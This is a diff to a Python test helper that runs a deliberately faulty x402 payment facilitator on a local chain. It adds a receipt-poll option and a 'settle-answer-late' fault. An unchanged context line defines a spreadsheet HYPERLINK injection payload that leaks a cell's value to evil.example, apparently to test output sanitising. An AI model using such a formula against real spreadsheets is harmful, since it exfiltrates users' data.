@@ -22,7 +22,9 @@ receipt with web3's default 100 ms between polls, and anvil mines a moment
 after it accepts the transaction, so nearly every settle slept 100 ms after the
 transfer was already final. Here it polls every 5 ms (``RECEIPT_POLL_SECONDS``).
 Everything that uses this facilitator (x402srv's facilitator strategy and the
-official middleware in ``bench``) gets the same one.
+official middleware in ``bench``) gets the same one. ``--receipt-poll 0.1`` restores
+the SDK's own pace (what a facilitator run as the SDK ships it does; ``bench`` measures
+both).
 
 ``--fault`` turns it into the faulty facilitator the fault tests need, doing the
 real work first where a real facilitator could fail after it:
@@ -31,6 +33,8 @@ real work first where a real facilitator could fail after it:
     settle-hang        /settle never answers and never settles
     settle-late        /settle answers nothing for --delay seconds (past the caller's
                        timeout), then really settles on-chain
+    settle-answer-late /settle really settles on-chain at once, then answers only
+                       --delay seconds later (a facilitator slow to see its receipt)
     settle-500-after   /settle really settles on-chain, then answers HTTP 500
     settle-400-after   /settle really settles on-chain, then answers HTTP 400 with a
                        body that names the transaction
@@ -66,6 +70,7 @@ FAULTS = [
     "settle-drop",
     "settle-hang",
     "settle-late",
+    "settle-answer-late",
     "settle-500-after",
     "settle-400-after",
     "settle-lie",
@@ -80,7 +85,7 @@ RECEIPT_POLL_SECONDS = 0.005
 LYING_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'
 
 
-def _build(chains: list[tuple[str, str]], key: str) -> dict[str, Any]:
+def _build(chains: list[tuple[str, str]], key: str, poll: float) -> dict[str, Any]:
     from eth_typing import HexStr
     from x402 import x402FacilitatorSync
     from x402.mechanisms.evm import FacilitatorWeb3Signer
@@ -97,7 +102,7 @@ def _build(chains: list[tuple[str, str]], key: str) -> dict[str, Any]:
             receipt = self._w3.eth.wait_for_transaction_receipt(
                 HexStr(tx_hash),
                 timeout=self._confirmation_timeout_seconds,
-                poll_latency=RECEIPT_POLL_SECONDS,
+                poll_latency=poll,
             )
             return TransactionReceipt(
                 status=TX_STATUS_SUCCESS if receipt["status"] == 1 else 0,
@@ -213,6 +218,8 @@ def _handler(
                     )
                     return
                 result = facilitator.settle(payload, requirements)
+                if fault == "settle-answer-late":
+                    time.sleep(delay)
                 if fault == "settle-500-after":
                     self._answer(500, {"error": "internal error"})
                     return
@@ -259,6 +266,12 @@ def main(argv: list[str] | None = None) -> None:
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--fault", choices=FAULTS, default=None)
     parser.add_argument("--delay", type=float, default=3.0)
+    parser.add_argument(
+        "--receipt-poll",
+        type=float,
+        default=RECEIPT_POLL_SECONDS,
+        help="seconds between receipt polls (the SDK's own: 0.1)",
+    )
     parser.add_argument("--record", default=None, help="append every POST body to this file")
     args = parser.parse_args(argv)
     key = os.environ["X402SRV_FACILITATOR_KEY"]
@@ -267,7 +280,7 @@ def main(argv: list[str] | None = None) -> None:
         chains.insert(0, (args.network, args.rpc_url))
     if not chains:
         parser.error("give --network and --rpc-url, or --chain NETWORK=RPC_URL")
-    facilitators = _build([(network, url) for network, url in chains], key)
+    facilitators = _build([(network, url) for network, url in chains], key, args.receipt_poll)
     handler = _handler(facilitators, args.fault, args.delay, args.record, args.gate)
     server = _Server(("127.0.0.1", args.port), handler)
     server.daemon_threads = True
